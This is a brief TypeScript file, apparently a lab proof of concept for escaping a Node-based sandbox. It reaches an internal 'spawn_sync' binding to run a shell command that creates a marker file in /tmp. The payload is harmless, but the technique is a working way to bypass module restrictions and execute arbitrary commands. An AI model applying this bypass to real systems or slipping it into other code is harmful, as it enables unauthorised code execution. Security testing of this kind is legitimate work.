// Goes below Node's modules: its bindings know how to spawn too.
import { realProcess } from "./real-process.ts";

realProcess.then((process) => {
  const args = ["/bin/sh", "-c", "touch /tmp/wal-labs-attack"];
  process.binding("spawn_sync").spawn({ file: "/bin/sh", args, stdio: [] });
});
